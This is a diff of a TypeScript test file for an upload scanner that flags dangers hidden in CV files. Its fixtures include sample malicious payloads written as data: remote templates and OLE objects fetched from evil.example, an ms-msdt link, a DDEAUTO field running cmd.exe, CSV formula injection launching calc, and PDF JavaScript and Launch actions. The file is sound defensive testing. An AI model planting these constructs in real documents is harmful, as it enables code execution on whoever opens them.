@@ -12,307 +12,183 @@ import {zipFile, type ZipEntry} from './setup/zip';
 const server = serverForAll();
 
 const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const EVIL = 'https://evil.example/a.dotm';
 
-const relations = (
-  type: string,
-  target: string,
-  mode = '',
-  name = 'word/_rels/settings.xml.rels',
-): ZipEntry => ({
-  name,
+/** A part that joins a document with something; `External` is what a part of its own is not. */
+const joined = (type: string, target: string, mode = ''): ZipEntry => ({
+  name: 'word/_rels/settings.xml.rels',
   deflated: true,
   content: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" ${mode && `TargetMode="${mode}"`}/></Relationships>`,
 });
+const external = (type: string, target: string) => joined(type, target, 'External');
 
 const docx = (...entries: (ZipEntry | string)[]) => officeFile('.docx', ...entries);
+const withRelations = (content: string | Buffer) =>
+  docx({name: 'word/_rels/a.rels', deflated: true, content});
 
-const withTypes = (types: string | Buffer, ...others: (ZipEntry | string)[]) =>
-  zipFile([{name: '[Content_Types].xml', content: types}, 'word/document.xml', ...others]);
-
+const withTypes = (types: string, ...others: string[]) =>
+  zipFile([
+    {name: '[Content_Types].xml', content: `<Types>${types}</Types>`},
+    ...['word/document.xml', 'xl/workbook.xml', ...others],
+  ]);
 const override = (part: string, type: string) =>
-  `<Types><Override PartName="/${part}" ContentType="${type}"/></Types>`;
+  `<Override PartName="/${part}" ContentType="application/${type}"/>`;
+const BIN_IS_MACROS =
+  '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';
 
-const utf16 = (entry: ZipEntry): ZipEntry => ({
-  ...entry,
-  content: Buffer.from(`\ufeff${String(entry.content)}`, 'utf16le'),
-});
+/** Written with prefixes, entities and other quotes. */
+const SPELLED = `<p:Relationships xmlns:p="x"><p:Relationship Id='r1' Type='${TYPE}/a&#116;tachedTemplate' Target='//evil.example/a' TargetMode='Ex&#x74;ernal'></p:Relationship></p:Relationships>`;
 
-const PDF = '%PDF-1.7\n';
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+
+const odt = (content: string) =>
+  zipFile([
+    {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
+    {name: 'content.xml', content},
+    'META-INF/manifest.xml',
+  ]);
+
+const pdf = (...parts: (string | Buffer)[]) =>
+  Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part as string)));
 const packed = deflateSync(Buffer.from('1 0 <</S/JavaScript/JS(app.alert(1))>>'));
 
-const boundSheet = (kind: number) =>
-  Buffer.from([0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...Buffer.from('Macro1')]);
+const rtf = (text: string) => Buffer.from(`{\\rtf1${text}}`);
 
-describe('what is hidden is seen (5.2.2)', () => {
-  test.each<[string, string, Buffer, string[]]>([
-    [
-      'a template from elsewhere',
-      'cv.docx',
-      docx(relations('attachedTemplate', 'https://evil.example/a.dotm', 'External')),
-      ['external link'],
-    ],
+const xls = (...records: number[]) => Buffer.concat([ole2File('Workbook'), Buffer.from(records)]);
+const boundSheet = (kind: number) =>
+  xls(0x85, 0, 14, 0, 1, 2, 3, 4, 0, kind, 6, 0, ...Buffer.from('Macro1'));
+
+/** What it is, the extension of its name, and its bytes. */
+type Row = [what: string, extension: string, bytes: Buffer | string];
+
+const HIDDEN: Readonly<Record<string, Row[]>> = {
+  'external link': [
+    ['a template from elsewhere', '.docx', docx(external('attachedTemplate', EVIL))],
     [
       'a template from elsewhere, in UTF-16',
-      'cv.docx',
-      docx(utf16(relations('attachedTemplate', 'https://evil.example/a.dotm', 'External'))),
-      ['external link'],
+      '.docx',
+      withRelations(utf16(String(external('attachedTemplate', EVIL).content))),
     ],
-    [
-      'a template from elsewhere, with entities, single quotes and a prefix',
-      'cv.docx',
-      docx({
-        name: 'word/_rels/settings.xml.rels',
-        content: `<p:Relationships xmlns:p="x"><p:Relationship Id='r1' Type='${TYPE}/a&#116;tachedTemplate' Target='//evil.example/a' TargetMode='Ex&#x74;ernal'></p:Relationship></p:Relationships>`,
-      }),
-      ['external link'],
-    ],
-    [
-      'an object from elsewhere',
-      'cv.docx',
-      docx(relations('oleObject', 'http://evil.example/a', 'External')),
-      ['external link'],
-    ],
+    ['a template, spelled in another way', '.docx', withRelations(SPELLED)],
+    ['an object from elsewhere', '.docx', docx(external('oleObject', 'http://evil.example/a'))],
     [
       'a picture from elsewhere',
-      'cv.pptx',
-      officeFile(
-        '.pptx',
-        relations('image', 'file://evil/a', 'External', 'ppt/slides/_rels/a.rels'),
-      ),
-      ['external link'],
+      '.pptx',
+      officeFile('.pptx', {...external('image', 'file://evil/a'), name: 'ppt/slides/_rels/a.rels'}),
     ],
     [
       'a link that starts something',
-      'cv.docx',
-      docx(relations('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')),
-      ['external link'],
-    ],
-    [
-      'an object by its relation',
-      'cv.docx',
-      docx(relations('oleObject', 'a/b.dat')),
-      ['embedded file'],
-    ],
-    ['a file by its relation', 'cv.docx', docx(relations('package', 'a/b.exe')), ['embedded file']],
-    [
-      'macros by their relation',
-      'cv.docx',
-      docx(relations('vbaProject', 'image1.png')),
-      ['macros'],
-    ],
-    [
-      'macros by their content type',
-      'cv.docx',
-      withTypes(
-        override('word/photo.png', 'application/vnd.ms-office.vbaProject'),
-        'word/photo.png',
-      ),
-      ['macros'],
-    ],
-    [
-      'macros by the type of an extension',
-      'cv.docx',
-      withTypes(
-        '<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
-        'word/x.dat',
-      ),
-      ['macros'],
-    ],
-    [
-      'a document that is a template with macros',
-      'cv.docx',
-      withTypes(
-        override(
-          'word/document.xml',
-          'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
-        ),
-      ),
-      ['macros'],
-    ],
-    [
-      'a macro sheet by its content type',
-      'cv.xlsx',
-      zipFile([
-        {
-          name: '[Content_Types].xml',
-          content: override('xl/s.xml', 'application/vnd.ms-excel.macrosheet+xml'),
-        },
-        'xl/workbook.xml',
-      ]),
-      ['macros'],
-    ],
-    [
-      'relations too long to be read',
-      'cv.docx',
-      docx({name: 'word/_rels/a.rels', deflated: true, content: ' '.repeat(LONGEST_TEXT + 1)}),
-      ['not looked into: too long'],
-    ],
-    [
-      'a script at an event of .odt',
-      'cv.odt',
-      zipFile([
-        {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
-        {
-          name: 'content.xml',
-          content:
-            '<o:c xmlns:o="x"><script:event-listener xlink:href="vnd.sun.star.script:a"/></o:c>',
-        },
-        'META-INF/manifest.xml',
-      ]),
-      ['macros'],
+      '.docx',
+      docx(external('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
     ],
     [
       'a picture from elsewhere in .odt',
-      'cv.odt',
-      zipFile([
-        {name: 'mimetype', content: 'application/vnd.oasis.opendocument.text'},
-        {
-          name: 'content.xml',
-          content: '<a><draw:image xlink:href="http://evil.example/a.png"/></a>',
-        },
-        'META-INF/manifest.xml',
-      ]),
-      ['external link'],
+      '.odt',
+      odt('<a><draw:image xlink:href="http://evil.example/a.png"/></a>'),
     ],
+    ['a form of .pdf that is sent away', '.pdf', pdf('<</S/SubmitForm/F(x)>>')],
+    ['a template in .rtf', '.rtf', rtf(`{\\*\\template ${EVIL}}`)],
     [
-      'script in .pdf, its name escaped',
-      'cv.pdf',
-      Buffer.from(`${PDF}<</S/J#61vaScript/J#53(x)>>`),
-      ['script'],
+      'a template in .rtf, escaped',
+      '.rtf',
+      rtf("{\\*\\template {}\\'68\\u116?t{}p\n://evil.example/a}"),
     ],
-    [
-      'a launch in .pdf, its name escaped',
-      'cv.pdf',
-      Buffer.from(`${PDF}<</S/#4cau#6Ech>>`),
-      ['starts a program'],
-    ],
-    [
-      'script in a packed object of .pdf',
-      'cv.pdf',
-      Buffer.concat([
-        Buffer.from(`${PDF}5 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\r\n`),
-        packed,
-        Buffer.from('\r\nendstream'),
-      ]),
-      ['script'],
-    ],
-    [
-      'a form of .pdf that is sent away',
-      'cv.pdf',
-      Buffer.from(`${PDF}<</S/SubmitForm/F(x)>>`),
-      ['external link'],
-    ],
-    [
-      'a template from elsewhere in .rtf',
-      'cv.rtf',
-      Buffer.from('{\\rtf1{\\*\\template http://evil.example/a.dotm}}'),
-      ['external link'],
-    ],
-    [
-      'a template from elsewhere in .rtf, escaped',
-      'cv.rtf',
-      Buffer.from("{\\rtf1{\\*\\template {}\\'68\\u116?t{}p\n://evil.example/a}}"),
-      ['external link'],
-    ],
-    [
-      'a template on a share in .rtf that is called .doc',
-      'cv.doc',
-      Buffer.from('{\\rtf1{\\*\\template \\\\\\\\evil\\\\a.dotm}}'),
-      ['external link'],
-    ],
+    ['a template on a share, called .doc', '.doc', rtf('{\\*\\template \\\\\\\\evil\\\\a.dotm}')],
     [
       'a field of .rtf that starts a program',
-      'cv.rtf',
-      Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}}'),
-      ['external link'],
+      '.rtf',
+      rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}}'),
     ],
+  ],
+  'embedded file': [
+    ['an object by its relation', '.docx', docx(joined('oleObject', 'a/b.dat'))],
+    ['a file by its relation', '.docx', docx(joined('package', 'a/b.exe'))],
+  ],
+  macros: [
+    ['macros by their relation', '.docx', docx(joined('vbaProject', 'image1.png'))],
     [
-      'macros of Excel 4, by the list of sheets',
-      'cv.xls',
-      Buffer.concat([ole2File('Workbook'), boundSheet(1)]),
-      ['macros'],
+      'macros by their content type',
+      '.docx',
+      withTypes(override('word/photo.png', 'vnd.ms-office.vbaProject'), 'word/photo.png'),
     ],
+    ['macros by the type of an extension', '.docx', withTypes(BIN_IS_MACROS, 'word/x.bin')],
     [
-      'macros of Excel 4, by the sheet',
-      'cv.xls',
-      Buffer.concat([ole2File('Workbook'), Buffer.from('0908100000064000', 'hex')]),
-      ['macros'],
-    ],
-    ['formulas behind a byte order mark', 'cv.csv', Buffer.from('\ufeff=1+1\n'), ['formulas']],
-    [
-      'formulas in UTF-16',
-      'cv.csv',
-      Buffer.from('\ufeffa;b\r\n1;=1+1\r\n', 'utf16le'),
-      ['formulas'],
-    ],
-    [
-      'formulas in UTF-16, the other way round',
-      'cv.csv',
-      Buffer.from('\ufeffa;=1+1\r\n', 'utf16le').swap16(),
-      ['formulas'],
-    ],
-    [
-      'a formula that begins like a number',
-      'cv.csv',
-      Buffer.from("a,+1+cmd|' /C calc'!A0\n"),
-      ['formulas'],
-    ],
-    ['a formula that begins like a list', 'cv.csv', Buffer.from('- cmd|x\n'), ['formulas']],
-    [
-      'a formula behind a separator of its own',
-      'cv.csv',
-      Buffer.from('sep=^\na^=1+1\n'),
-      ['formulas'],
-    ],
-  ])('%s', async (_what, name, bytes, warnings) => {
-    expect((await accepted(server, name, bytes)).warnings).toEqual(warnings);
-  });
-
-  test.each<[string, string, Buffer]>([
-    [
-      'a link on a word',
-      'cv.docx',
-      docx(relations('hyperlink', 'https://ravi.example', 'External')),
-    ],
-    [
-      'an address on a word',
-      'cv.docx',
-      docx(relations('hyperlink', 'mailto:ravi@example.com', 'External')),
-    ],
-    [
-      'a link to another file beside it',
-      'cv.docx',
-      docx(relations('hyperlink', 'work/list.pdf', 'External')),
-    ],
-    ['a picture inside', 'cv.docx', docx(relations('image', 'media/image1.png'))],
-    [
-      'a type for an extension that no part has',
-      'cv.docx',
+      'a document that is a template with macros',
+      '.docx',
       withTypes(
-        '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+        override('word/document.xml', 'vnd.ms-word.template.macroEnabledTemplate.main+xml'),
       ),
     ],
-    ['a link on a word of .odt', 'cv.odt', openDocument('.odt')],
     [
-      'Word’s own template in .rtf',
-      'cv.rtf',
-      Buffer.from('{\\rtf1{\\*\\template C:\\\\Users\\\\Ravi\\\\Normal.dotm}}'),
+      'a macro sheet by its content type',
+      '.xlsx',
+      withTypes(override('xl/s.xml', 'vnd.ms-excel.macrosheet+xml')),
     ],
-    ['sheets without macros', 'cv.xls', Buffer.concat([ole2File('Workbook'), boundSheet(0)])],
-    ['numbers in UTF-16', 'cv.csv', Buffer.from('\ufeff+91 98765;-5,5;- a list\r\n', 'utf16le')],
-    ['colours in .pdf that look like escapes', 'cv.pdf', Buffer.from(`${PDF}/CS#20JSON /JSx #4a`)],
-  ])('%s is nothing to warn of', async (_what, name, bytes) => {
-    expect((await accepted(server, name, bytes)).warnings).toEqual([]);
+    [
+      'a script at an event of .odt',
+      '.odt',
+      odt('<o:c xmlns:o="x"><script:event-listener xlink:href="vnd.sun.star.script:a"/></o:c>'),
+    ],
+    ['macros of Excel 4, by the list of sheets', '.xls', boundSheet(1)],
+    ['macros of Excel 4, by the sheet', '.xls', xls(0x09, 0x08, 0x10, 0, 0, 0x06, 0x40, 0)],
+  ],
+  'not looked into: too long': [
+    ['relations too long to be read', '.docx', withRelations(' '.repeat(LONGEST_TEXT + 1))],
+  ],
+  script: [
+    ['script, its name escaped', '.pdf', pdf('<</S/J#61vaScript/J#53(x)>>')],
+    [
+      'script in a packed object',
+      '.pdf',
+      pdf('5 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\r\n', packed, '\r\nendstream'),
+    ],
+  ],
+  'starts a program': [['a launch, its name escaped', '.pdf', pdf('<</S/#4cau#6Ech>>')]],
+  formulas: [
+    ['formulas behind a byte order mark', '.csv', '\ufeff=1+1\n'],
+    ['formulas in UTF-16', '.csv', utf16('a;b\r\n1;=1+1\r\n')],
+    ['formulas in UTF-16, the other way round', '.csv', utf16('a;=1+1\r\n').swap16()],
+    ['a formula that begins like a number', '.csv', "a,+1+cmd|' /C calc'!A0\n"],
+    ['a formula that begins like a list', '.csv', '- cmd|x\n'],
+    ['a formula behind a separator of its own', '.csv', 'sep=^\na^=1+1\n'],
+  ],
+};
+
+const HONEST: Row[] = [
+  ['a link on a word', '.docx', docx(external('hyperlink', 'https://ravi.example'))],
+  ['an address on a word', '.docx', docx(external('hyperlink', 'mailto:ravi@example.com'))],
+  ['a link to another file beside it', '.docx', docx(external('hyperlink', 'work/list.pdf'))],
+  ['a picture inside', '.docx', docx(joined('image', 'media/image1.png'))],
+  ['a type for an extension that no part has', '.docx', withTypes(BIN_IS_MACROS)],
+  ['a link on a word of .odt', '.odt', openDocument('.odt')],
+  [
+    'Word’s own template in .rtf',
+    '.rtf',
+    rtf('{\\*\\template C:\\\\Users\\\\Ravi\\\\Normal.dotm}'),
+  ],
+  ['sheets without macros', '.xls', boundSheet(0)],
+  ['numbers in UTF-16', '.csv', utf16('+91 98765;-5,5;- a list\r\n')],
+  ['colours in .pdf that look like escapes', '.pdf', pdf('/CS#20JSON /JSx #4a')],
+];
+
+const warningsOf = async (extension: string, bytes: Buffer | string) =>
+  (await accepted(server, `cv${extension}`, Buffer.from(bytes as string))).warnings;
+
+describe.each(Object.entries(HIDDEN))('what is hidden is seen (5.2.2): %s', (sign, rows) => {
+  test.each(rows)('%s (%s)', async (_what, extension, bytes) => {
+    expect(await warningsOf(extension, bytes)).toEqual([sign]);
   });
 });
 
-describe('a document that lies about its unpacked size (5.2.3)', () => {
-  test.each([
-    ['more than it says', 1000],
-    ['less than it says', 10_000_000],
-  ])('%s', async (_what, uncompressedSize) => {
-    const lie = {name: 'word/a.xml', content: 'x'.repeat(5_000_000), deflated: true};
-    expect((await accepted(server, 'cv.docx', docx(lie))).warnings).toEqual([]);
-    await expectRefused(server, 'cv.docx', docx({...lie, uncompressedSize}), 'fileContent');
-  });
+test.each(HONEST)('%s (%s) is nothing to warn of', async (_what, extension, bytes) => {
+  expect(await warningsOf(extension, bytes)).toEqual([]);
+});
+
+test.each([
+  ['more than it says', 1000],
+  ['less than it says', 10_000_000],
+])('a document that unpacks to %s is refused (5.2.3)', async (_what, uncompressedSize) => {
+  const lie = {name: 'word/a.xml', content: 'x'.repeat(5_000_000), deflated: true};
+  expect(await warningsOf('.docx', docx(lie))).toEqual([]);
+  await expectRefused(server, 'cv.docx', docx({...lie, uncompressedSize}), 'fileContent');
 });
